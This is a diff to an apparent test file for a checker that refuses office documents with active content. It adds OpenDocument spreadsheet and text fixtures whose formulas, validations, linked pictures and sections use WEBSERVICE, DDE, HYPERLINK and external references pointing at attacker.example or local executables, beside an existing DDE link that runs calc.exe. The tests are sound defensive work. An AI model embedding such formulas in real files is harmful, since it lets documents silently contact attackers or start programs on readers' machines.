@@ -10,6 +10,7 @@ output gate.
 """
 from __future__ import annotations
 
+import html
 import io
 import re
 import struct
@@ -69,7 +70,8 @@ def odt(body: str, extra: dict[str, str] | None = None) -> bytes:
                    'xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:'
                    'oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
                    'xmlns:l="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:'
-                   'script:1.0" office:version="1.2"><office:scripts/>' + body + "</office:document-content>")
+                   'script:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" office:version="1.2">'
+                   '<office:scripts/>' + body + "</office:document-content>")
         for name, text in (extra or {}).items():
             z.writestr(name, text)
     return out.getvalue()
@@ -381,6 +383,12 @@ def slide(action: str) -> bytes:
                     "</p:nvSpPr></p:sp></p:spTree></p:cSld></p:sld>"})
 
 
+def cell(formula: str) -> str:
+    """An OpenDocument spreadsheet's body with one cell of `formula`."""
+    return ('<office:body><office:spreadsheet><table:table table:name="S"><table:table-row><table:table-cell '
+            f'table:formula="{html.escape(formula)}"/></table:table-row></table:table></office:spreadsheet></office:body>')
+
+
 FETCHES = "that fetches a file when the document opens"
 DDE_LINK = '<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink>'
 # (file name, content, what the refusal says): each published before this change.
@@ -421,6 +429,26 @@ OFFICE_ACTIVE = [
                                                'RTD("evil.server",,"x")</definedName></definedNames></workbook>'}),
      "uses RTD, which starts a real-time data server (`xl/workbook.xml`"),
     ("program.pptx", slide("ppaction://program"), "has an action `ppaction://program` that runs a program"),
+    ("path.xlsx", sheet("'\\\\attacker.example\\s\\[book.xlsx]Sheet1'!A1"),
+     "reads a cell of another file when it is opened (an external reference)"),
+    # OpenDocument's formulas, linked pictures and sections (sixth attacker).
+    ("webservice.ods", odt(cell('of:=COM.MICROSOFT.WEBSERVICE("https://attacker.example/b")')),
+     'has a formula that uses WEBSERVICE, which reaches another computer (in `table:table-cell`: '
+     '`of:=COM.MICROSOFT.WEBSERVICE("https://attacker.example/b")`)'),
+    ("dde.ods", odt(cell('of:=DDE("soffice";"file:///C:/x.ods";"Sheet1.A1")')), "uses DDE, which starts another program"),
+    ("hyperlink.ods", odt(cell('of:=HYPERLINK("file:///C:/Windows/x.exe";"Open")')),
+     "links to `file:///C:/Windows/x.exe` (HYPERLINK)"),
+    ("external.ods", odt(cell("of:=['file:///share/x.ods'#$Sheet1.A1]")),
+     "reads a cell of another file when it is opened (an external reference)"),
+    ("validity.ods", odt('<office:body><office:spreadsheet><table:content-validations><table:content-validation '
+                         'table:name="v" table:condition="of:cell-content-is-true-formula(WEBSERVICE(&quot;https://'
+                         'attacker.example/v&quot;))"/></table:content-validations></office:spreadsheet></office:body>'),
+     "uses WEBSERVICE, which reaches another computer (in `table:content-validation`"),
+    ("linked.odt", odt(odt_image('xlink:href="https://attacker.example/pixel.png"').replace(
+        ' xlink:show="embed" xlink:actuate="onLoad"', "")), f"loads `https://attacker.example/pixel.png` {LOADS}"),
+    ("section.odt", odt('<office:body><office:text><text:section text:name="S"><text:section-source xlink:href='
+                        '"https://attacker.example/s.odt" text:filter-name="writer8"/></text:section></office:text>'
+                        "</office:body>"), f"loads `https://attacker.example/s.odt` {LOADS}"),
 ]
 # Fields and formulas that fetch and run nothing: published.
 GOOD_ACTIVE = {
@@ -428,6 +456,7 @@ GOOD_ACTIVE = {
                         + field(" HYPERLINK \\l ", '"_Toc1" ') + simple(" MERGEFIELD Name ")),
     "sums.xlsx": sheet('IF(SUM(A1:A3)&gt;0,"Call (0131) 623 4300 | ask","")&amp;HYPERLINK("https://www.gov.scot/","web")'),
     "next.pptx": slide("ppaction://hlinkshowjump?jump=nextslide"),
+    "sums.ods": odt(cell('of:=IF(SUM([.A1:.A3])>0;"Call | ask";"")&HYPERLINK("https://www.gov.scot/";"web")')),
 }
 
 
